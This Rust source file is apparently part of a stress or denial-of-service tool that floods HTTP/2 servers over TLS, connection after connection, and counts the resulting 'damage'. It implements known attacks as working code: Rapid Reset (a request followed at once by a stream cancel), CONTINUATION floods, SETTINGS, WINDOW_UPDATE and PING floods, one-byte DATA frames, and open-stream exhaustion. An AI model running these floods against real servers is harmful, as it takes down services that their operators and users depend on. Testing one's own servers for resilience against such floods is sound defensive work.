//! Floods of HTTP/2 frames.

use std::io::{self, Read, Write};
use std::time::Duration;

use super::{Attack, Damage, Target, Tls};
use crate::probe::http2::{self, Heard, frame};

/// Bytes written between two looks at what came back.
const BATCH: usize = 16 << 10;
/// How long a look takes.
const LOOK: Duration = Duration::from_millis(1);
/// Between two connections.
const PAUSE: Duration = Duration::from_millis(50);
/// How long the end of a connection is listened to.
const END: Duration = Duration::from_secs(2);

/// Floods one connection after another.
pub(super) fn flood(attack: Attack, target: &Target) -> Damage {
    let mut damage = Damage::default();
    while !target.is_over() {
        let heard = target.shake_hands(b"h2").map(|tls| {
            damage.connections += 1;
            on_one(attack, target, tls)
        });
        match heard {
            Ok(heard) => damage.hear(&heard),
            Err(_) => damage.closed += 1,
        }
        std::thread::sleep(PAUSE);
    }
    damage
}

/// Until the other side ends it, or the time is up.
fn on_one(attack: Attack, target: &Target, mut tls: Tls) -> Heard {
    let mut heard = Heard::default();
    let mut number = 0;
    let mut batch = http2::preface();
    while !target.is_over() {
        while batch.len() < BATCH {
            batch.extend(next(attack, number, target));
            number += 1;
        }
        if tls.write_all(&batch).and_then(|()| tls.flush()).is_err() {
            break;
        }
        batch.clear();
        if !listen(&mut tls, &mut heard, LOOK) || !heard.goaways.is_empty() {
            break;
        }
    }
    // Nobody waits for more: what is still to be said is said in time, or not at all.
    while listen(&mut tls, &mut heard, END) && heard.goaways.is_empty() && !target.is_over() {}
    heard
}

/// The nth frames.
fn next(attack: Attack, number: u32, target: &Target) -> Vec<u8> {
    let stream = 2 * number + 1;
    let request =
        |method, flags| frame(http2::HEADERS, flags, stream, &http2::head(method, &target.path, &target.token));
    let ended = http2::END_HEADERS | http2::END_STREAM;
    match attack {
        Attack::RapidReset => {
            [request("GET", ended), frame(http2::RST_STREAM, 0, stream, &http2::CANCEL.to_be_bytes())].concat()
        }
        Attack::Streams => request("POST", http2::END_HEADERS),
        Attack::Continuation if number == 0 => request("GET", 0),
        Attack::Continuation => frame(http2::CONTINUATION, 0, 1, &[]),
        Attack::Settings => frame(http2::SETTINGS, 0, 0, &[0, 4, 0, 0, 0xff, 0xff]),
        Attack::WindowUpdates => frame(http2::WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]),
        Attack::OneByteFrames if number == 0 => request("POST", http2::END_HEADERS),
        Attack::OneByteFrames => frame(http2::DATA, 0, 1, b"x"),
        _ => frame(http2::PING, 0, 0, &[0; 8]),
    }
}

/// Takes what has come. False at the end.
fn listen(tls: &mut Tls, heard: &mut Heard, time: Duration) -> bool {
    if tls.sock.set_read_timeout(Some(time)).is_err() {
        return false;
    }
    let mut buffer = [0; 16 << 10];
    loop {
        match tls.read(&mut buffer) {
            Ok(0) => return false,
            Ok(length) => heard.feed(&buffer[..length]),
            Err(error) if matches!(error.kind(), io::ErrorKind::WouldBlock | io::ErrorKind::TimedOut) => return true,
            Err(_) => return false,
        }
    }
}
